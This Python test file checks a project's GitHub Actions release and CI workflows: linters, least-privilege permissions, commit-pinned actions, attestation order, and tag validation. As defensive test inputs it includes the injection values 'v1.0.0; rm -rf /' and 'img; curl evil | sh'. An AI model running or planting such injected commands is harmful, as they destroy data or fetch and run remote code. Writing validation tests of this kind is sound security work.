"""The GitHub Actions workflows: real linters, the copies in sync, and the release policy.

Run by scripts/test-workflows.sh, which installs the locked linters (requirements.txt) into a
venv and puts them on PATH. Everything here is offline.

- check-jsonschema with its vendored GitHub-workflow schema (SchemaStore), on every file;
- zizmor --offline (pedantic persona): no findings; an ignore comment must give its reason;
- workflows/ and .github/workflows/ hold the same files, byte for byte;
- the release policy of issue 6 (triggers, concurrency, job order, least privilege, actions
  pinned by commit, the builder image from release.toml), partly by running the workflow's
  own shell steps in a scratch git repository;
- the publishing jobs call `cargo xtask publish <step>` (no publish logic in shell); the xtask
  tests run those command lines against the GitHub stand-in and devpi
  (xtask/tests/publish_commands.rs).
"""

from __future__ import annotations

import difflib
import os
import re
import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest
from ruamel.yaml import YAML

REPO = Path(__file__).resolve().parents[2]
SRC = REPO / "workflows"
COPY = REPO / ".github" / "workflows"
RELEASE = SRC / "release-musa.yaml"
CI = SRC / "ci.yaml"
FILES = sorted(SRC.glob("*.y*ml"))

PINNED_USES = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
VERSION_COMMENT = re.compile(r"#\s*v\d+(\.\d+)*\b")


def tool(name: str) -> str:
    path = shutil.which(name)
    assert path, f"{name} is not on PATH: run scripts/test-workflows.sh"
    return path


def load(path: Path) -> dict:
    return YAML(typ="safe").load(path.read_text())


@pytest.fixture(scope="module")
def release() -> dict:
    return load(RELEASE)


@pytest.fixture(scope="module")
def ci() -> dict:
    return load(CI)


# --- the linters --------------------------------------------------------------------------


def test_the_workflows_exist():
    assert [f.name for f in FILES] == ["ci.yaml", "release-musa.yaml"]


def test_schema():
    """check-jsonschema, SchemaStore's github-workflow schema as vendored by the tool."""
    r = subprocess.run(
        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows",
         *map(str, FILES + sorted(COPY.glob("*.y*ml")))],
        capture_output=True, text=True,
    )
    assert r.returncode == 0, r.stdout + r.stderr


def test_zizmor_has_no_findings():
    """zizmor --offline with the pedantic persona (a superset of the default one).

    zizmor exits 0 only without findings (10 + the highest severity otherwise); its
    cargo-style report, with file and line of each finding, is the failure message.
    """
    r = subprocess.run(
        [tool("zizmor"), "--offline", "--persona", "pedantic", "--format", "plain",
         *map(str, FILES)],
        capture_output=True, text=True,
    )
    assert r.returncode == 0, f"zizmor (exit {r.returncode}):\n{r.stdout}{r.stderr}"
    assert "No findings to report" in r.stdout, r.stdout


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_every_zizmor_ignore_gives_its_reason(path: Path):
    for n, line in enumerate(path.read_text().splitlines(), 1):
        m = re.search(r"#\s*zizmor:\s*ignore\[[^\]]+\](.*)$", line)
        if m:
            assert len(m.group(1).strip()) >= 10, f"{path.name}:{n}: ignore without a reason"


# --- the two copies -------------------------------------------------------------------------


def test_github_copy_is_identical():
    """.github/workflows/ is what GitHub runs; workflows/ is where we edit."""
    src = {p.name for p in SRC.iterdir() if p.is_file()}
    copy = {p.name for p in COPY.iterdir() if p.is_file()} if COPY.is_dir() else set()
    problems = []
    for name in sorted(src - copy):
        problems.append(f".github/workflows/{name} is missing (cp workflows/{name} .github/workflows/)")
    for name in sorted(copy - src):
        problems.append(f".github/workflows/{name} has no source in workflows/")
    for name in sorted(src & copy):
        a, b = (SRC / name).read_text(), (COPY / name).read_text()
        if a != b:
            diff = "".join(difflib.unified_diff(
                a.splitlines(True), b.splitlines(True),
                f"workflows/{name}", f".github/workflows/{name}"))
            problems.append(f"workflows/{name} and .github/workflows/{name} differ:\n{diff}")
    assert not problems, "\n".join(problems)


# --- the release policy ---------------------------------------------------------------------


def jobs(wf: dict) -> dict:
    return wf["jobs"]


def all_steps(wf: dict):
    for name, job in jobs(wf).items():
        for step in job.get("steps", []):
            yield name, step


def test_triggers(release):
    on = release["on"]
    assert on["push"] == {"tags": ["v*"]}
    tag = on["workflow_dispatch"]["inputs"]["tag"]
    assert tag["required"] is True and tag["type"] == "string"
    assert set(on) == {"push", "workflow_dispatch"}


def test_pre_release_tags_are_skipped(release):
    cond = jobs(release)["plan"]["if"]
    assert "!contains(github.ref_name, '-')" in cond
    assert "github.event_name == 'workflow_dispatch'" in cond
    # Every other job depends on plan, so it is skipped with it.
    for name, job in jobs(release).items():
        if name != "plan":
            needs = job["needs"] if isinstance(job["needs"], list) else [job["needs"]]
            assert "plan" in needs, name


def test_concurrency_per_tag_without_cancellation(release):
    c = release["concurrency"]
    assert c["cancel-in-progress"] is False
    assert "inputs.tag" in c["group"] and "github.ref_name" in c["group"]


def test_job_order(release):
    j = jobs(release)

    def needs(name):
        n = j[name]["needs"]
        return set(n if isinstance(n, list) else [n])

    # The order of xtask/README.md: GitHub draft -> PyPI -> GitHub undraft -> images -> record.
    assert needs("build") == {"plan"}
    assert "build" in needs("verify")
    assert "verify" in needs("attest")
    assert {"verify", "attest"} <= needs("github-draft")
    assert "github-draft" in needs("publish-pypi")
    assert "publish-pypi" in needs("github-undraft")
    assert "github-undraft" in needs("images")
    assert "images" in needs("github-record")


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_least_privilege(path: Path):
    wf = load(path)
    assert wf["permissions"] == {}, "top-level permissions must be empty"
    for name, job in jobs(wf).items():
        assert "permissions" in job, f"{name}: declare the job's permissions"
    writes = {
        (name, perm)
        for name, job in jobs(wf).items()
        for perm, level in (job["permissions"] or {}).items()
        if level == "write"
    }
    expected = {("publish-pypi", "id-token"), ("github-draft", "contents"),
                ("github-undraft", "contents"), ("github-record", "contents"), ("attest", "id-token"),
                ("attest", "attestations"), ("images", "id-token"), ("images", "attestations")}
    assert writes == (expected if path == RELEASE else set())


def test_pypi_job(release):
    job = jobs(release)["publish-pypi"]
    assert job["environment"]["name"] == "pypi"
    assert job["permissions"] == {"contents": "read", "id-token": "write"}
    steps = job["steps"]
    publish = [i for i, s in enumerate(steps) if "gh-action-pypi-publish" in s.get("uses", "")]
    assert len(publish) == 1
    inputs = steps[publish[0]].get("with", {})
    # Trusted publishing (PEP 740 attestations are on by default with it): no password, the
    # attestations not switched off; never hide a different-bytes collision.
    assert "password" not in inputs and "skip-existing" not in inputs
    assert inputs.get("attestations", True) is True
    # The xtask compares with the index before the upload.
    runs = [s.get("run", "") for s in steps[: publish[0]]]
    assert 'cargo xtask publish pypi "$TAG" --check-only' in runs


PUBLISH_COMMANDS = {
    "github-draft": 'cargo xtask publish github "$TAG"',
    "publish-pypi": 'cargo xtask publish pypi "$TAG" --check-only',
    "github-undraft": 'cargo xtask publish undraft "$TAG"',
    "github-record": 'cargo xtask publish record "$TAG"',
}


@pytest.mark.parametrize("job", sorted(PUBLISH_COMMANDS))
def test_publishing_jobs_run_the_xtask_on_the_verified_files(release, job):
    """One implementation per destination: the jobs call the xtask, never `gh api` or curl."""
    j = jobs(release)[job]
    steps = j["steps"]
    runs = [s.get("run", "") for s in steps]
    assert PUBLISH_COMMANDS[job] in runs, runs
    i = runs.index(PUBLISH_COMMANDS[job])
    before = "\n".join(runs[:i])
    assert 'sha256sum -c' in before and "$SUMS_SHA256" in before, job
    checkout = next(s for s in steps if "actions/checkout" in s.get("uses", ""))
    assert checkout["with"]["ref"] == "refs/tags/${{ needs.plan.outputs.tag }}"
    if job != "publish-pypi":
        assert steps[i]["env"] == {"GITHUB_TOKEN": "${{ github.token }}"}


def test_no_publish_logic_in_shell(release):
    for name, step in all_steps(release):
        run = step.get("run", "")
        assert "gh api" not in run and "gh release" not in run, f"{name}: {step.get('name')}"
        if name != "build":  # the build job fetches rustup-init (pinned by SHA256)
            assert "curl" not in run, f"{name}: {step.get('name')}"


def test_every_published_file_is_attested_before_publishing(release):
    job = jobs(release)["attest"]
    assert job["permissions"] == {"id-token": "write", "attestations": "write"}
    steps = job["steps"]
    attest = [i for i, s in enumerate(steps) if "attest-build-provenance" in s.get("uses", "")]
    assert len(attest) == 1
    # The release directory as verified: wheel, sdist, sha256.sum and the manifest.
    assert steps[attest[0]]["with"] == {"subject-path": "dist/*"}
    download = next(s for s in steps if "download-artifact" in s.get("uses", ""))
    assert download["with"]["path"] == "dist"
    checked = "\n".join(s.get("run", "") for s in steps[: attest[0]])
    assert "sha256sum -c --strict sha256.sum" in checked


def test_build_runs_in_the_builder_image_from_release_toml(release):
    build = jobs(release)["build"]
    assert build["container"]["image"] == "${{ needs.plan.outputs.builder_image }}"
    runs = "\n".join(s.get("run", "") for s in build["steps"])
    assert 'cargo xtask release "$TAG" --dry-run --strict-baseline' in runs
    assert 'cargo xtask verify "target/dist/$TAG"' in runs


def test_artifacts_travel_by_upload_and_download_and_are_verified(release):
    j = jobs(release)
    assert any("upload-artifact" in s.get("uses", "") for s in j["build"]["steps"])
    for name in ("verify", "attest", "github-draft", "publish-pypi", "github-undraft", "images",
                 "github-record"):
        steps = j[name]["steps"]
        assert any("download-artifact" in s.get("uses", "") for s in steps), name
        runs = "\n".join(s.get("run", "") for s in steps)
        assert "cargo xtask verify" in runs or "sha256sum -c" in runs, name


def test_images_job_runs_the_xtask_and_keeps_the_recorded_digests(release):
    job = jobs(release)["images"]
    assert job["permissions"] == {"contents": "read", "id-token": "write", "attestations": "write"}
    steps = job["steps"]
    runs = [s.get("run", "") for s in steps]
    assert 'cargo xtask images "$TAG"' in runs
    # No --force in automation: a different digest under a published tag must stop the job.
    assert not any("--force" in r for r in runs)
    i = runs.index('cargo xtask images "$TAG"')
    upload = [s for s in steps[i + 1 :] if "upload-artifact" in s.get("uses", "")]
    assert len(upload) == 1
    paths = upload[0]["with"]["path"].split()
    assert "RELEASES.md" in paths and any(p.startswith("target/dist/") for p in paths)


def test_images_are_attested_and_the_publication_record_holds_every_attestation(release):
    j = jobs(release)
    attest = next(s for s in j["attest"]["steps"] if "attest-build-provenance" in s.get("uses", ""))
    keep = [s for s in j["attest"]["steps"] if "upload-artifact" in s.get("uses", "")]
    assert [s["with"]["path"] for s in keep] == [
        "${{ steps.%s.outputs.bundle-path }}" % attest["id"]]
    steps = j["images"]["steps"]
    images = [s for s in steps if "attest-build-provenance" in s.get("uses", "")]
    assert len(images) == 2
    for s in images:
        # By the digest the images phase pushed and recorded, stored next to the image.
        assert set(s["with"]) == {"subject-name", "subject-digest", "push-to-registry"}
        assert s["with"]["push-to-registry"] is True
        assert s["with"]["subject-digest"].startswith("${{ steps.pushed.outputs.")
    runs = [s.get("run", "") for s in steps]
    record = next(i for i, r in enumerate(runs) if "cargo xtask record-attestation" in r)
    assert record > max(steps.index(s) for s in images)
    bundles = set(steps[record]["env"].values())
    assert bundles == {"${{ steps.%s.outputs.bundle-path }}" % s["id"] for s in images}
    upload = [s for s in steps[record + 1 :] if "upload-artifact" in s.get("uses", "")]
    assert len(upload) == 1, "the publication record with the attestations is kept"
    # The record travels from github-undraft to the images job, and from there onto the release.
    keep = [s for s in j["github-undraft"]["steps"] if "upload-artifact" in s.get("uses", "")]
    assert [s["with"]["name"] for s in keep] == ["release-publication"]
    fetched = [s["with"]["name"] for s in steps if "download-artifact" in s.get("uses", "")]
    assert "release-publication" in fetched
    fetched = [s["with"]["name"] for s in j["github-record"]["steps"]
               if "download-artifact" in s.get("uses", "")]
    assert fetched == ["release-images"]


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_actions_are_pinned_by_commit_with_a_version_comment(path: Path):
    text = path.read_text().splitlines()
    for name, step in all_steps(load(path)):
        uses = step.get("uses")
        if uses is None or uses.startswith("./"):
            continue
        assert PINNED_USES.match(uses), f"{name}: {uses} is not pinned by a full commit SHA"
        line = next(l for l in text if f"uses: {uses}" in l)
        assert VERSION_COMMENT.search(line), f"{name}: {uses} lacks a '# vX.Y.Z' comment"


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_checkouts_keep_no_credentials(path: Path):
    for name, step in all_steps(load(path)):
        if "actions/checkout" in step.get("uses", ""):
            assert step["with"]["persist-credentials"] is False, name


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_no_expressions_inside_shell(path: Path):
    """Values reach `run:` through env, never by ${{ }} expansion (template injection)."""
    for name, step in all_steps(load(path)):
        assert "${{" not in step.get("run", ""), f"{name}: {step.get('name')}"


def test_ci_runs_the_suite_on_push_and_pull_request(ci):
    assert {"push", "pull_request"} <= set(ci["on"])
    runs = [s.get("run") for _, s in all_steps(ci)]
    assert ".ci/run" in runs
    assert (REPO / ".ci" / "run").exists()


# --- the workflow's own shell, run here ---------------------------------------------------


def step_script(wf: dict, job: str, step_name: str) -> str:
    for step in jobs(wf)[job]["steps"]:
        if step.get("name") == step_name:
            return step["run"]
    raise AssertionError(f"{job}: no step {step_name!r}")


def run_step(script: str, cwd: Path, env: dict) -> subprocess.CompletedProcess:
    full = {"PATH": os.environ["PATH"], "HOME": str(cwd), **env}
    return subprocess.run(["bash", "-c", script], cwd=cwd, env=full,
                          capture_output=True, text=True)


@pytest.mark.parametrize("tag,ok", [
    ("v0.3.12", True), ("v0.3.12.post1", True), ("v1.0.0", True),
    ("v1.0.0-rc1", False), ("v1.0.0rc1", False), ("1.0.0", False), ("v1.0", False),
    ("v1.0.0; rm -rf /", False), ("v1.0.0.post", False),
])
def test_plan_validates_the_tag(release, tmp_path, tag, ok):
    script = step_script(release, "plan", "Validate the tag")
    r = run_step(script, tmp_path, {"TAG": tag})
    assert (r.returncode == 0) == ok, r.stdout + r.stderr


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True,
                          text=True).stdout.strip()


@pytest.fixture
def tagged_repo(tmp_path: Path) -> Path:
    """A scratch repository whose tag v9.9.9 holds this repository's release.toml."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    shutil.copy(REPO / "release.toml", repo / "release.toml")
    git(repo, "add", "release.toml")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "release")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "tag", "-a", "v9.9.9", "-m", "v9.9.9")
    return repo


def test_plan_reads_the_builder_image_from_release_toml(release, tagged_repo):
    out = tagged_repo / "github_output"
    script = step_script(release, "plan", "Read the plan from the tag's release.toml")
    r = run_step(script, tagged_repo, {"TAG": "v9.9.9", "GITHUB_OUTPUT": str(out)})
    assert r.returncode == 0, r.stdout + r.stderr
    outputs = dict(line.split("=", 1) for line in out.read_text().splitlines())
    wanted = tomllib.loads((REPO / "release.toml").read_text())["baseline"]["builder_image"]
    assert outputs == {
        "tag": "v9.9.9",
        "version": "9.9.9",
        "commit": git(tagged_repo, "rev-parse", "HEAD"),
        "builder_image": wanted,
    }
    if "@sha256:" not in wanted:
        assert "::warning::release.toml [baseline] builder_image is pinned by tag only" in r.stdout


def test_plan_warns_about_image_bases_without_a_digest(release, tagged_repo):
    script = step_script(release, "plan", "Read the plan from the tag's release.toml")
    env = {"TAG": "v9.9.9", "GITHUB_OUTPUT": str(tagged_repo / "out")}
    r = run_step(script, tagged_repo, env)
    assert r.returncode == 0, r.stdout + r.stderr
    images = tomllib.loads((tagged_repo / "release.toml").read_text())["images"]["image"]
    unpinned = [i["name"] for i in images if "@sha256:" not in i["base"]]
    assert unpinned, "the repository's bases are not pinned yet (no registry access here)"
    for name in unpinned:
        assert f"::warning::release.toml [images] {name}: base" in r.stdout, r.stdout
    # Pinned: no warning for them.
    toml = (tagged_repo / "release.toml").read_text()
    toml = re.sub(r'(?m)^(base = "[^"@]*)"', r'\1@sha256:' + "0" * 64 + '"', toml)
    (tagged_repo / "release.toml").write_text(toml)
    git(tagged_repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "pin")
    git(tagged_repo, "tag", "-f", "v9.9.9")
    r = run_step(script, tagged_repo, env)
    assert r.returncode == 0 and "[images]" not in r.stdout, r.stdout


def test_plan_refuses_a_checkout_that_is_not_the_tag(release, tagged_repo):
    (tagged_repo / "x").write_text("x")
    git(tagged_repo, "add", "x")
    git(tagged_repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "later")
    script = step_script(release, "plan", "Read the plan from the tag's release.toml")
    r = run_step(script, tagged_repo, {"TAG": "v9.9.9",
                                       "GITHUB_OUTPUT": str(tagged_repo / "out")})
    assert r.returncode != 0 and "but v9.9.9 is" in r.stdout


def test_plan_refuses_a_malformed_builder_image(release, tagged_repo):
    toml = (tagged_repo / "release.toml").read_text()
    toml = re.sub(r'builder_image = ".*"', 'builder_image = "img; curl evil | sh"', toml)
    (tagged_repo / "release.toml").write_text(toml)
    git(tagged_repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "bad")
    git(tagged_repo, "tag", "-f", "v9.9.9")
    script = step_script(release, "plan", "Read the plan from the tag's release.toml")
    r = run_step(script, tagged_repo, {"TAG": "v9.9.9",
                                       "GITHUB_OUTPUT": str(tagged_repo / "out")})
    assert r.returncode != 0 and "is not an image reference" in r.stdout
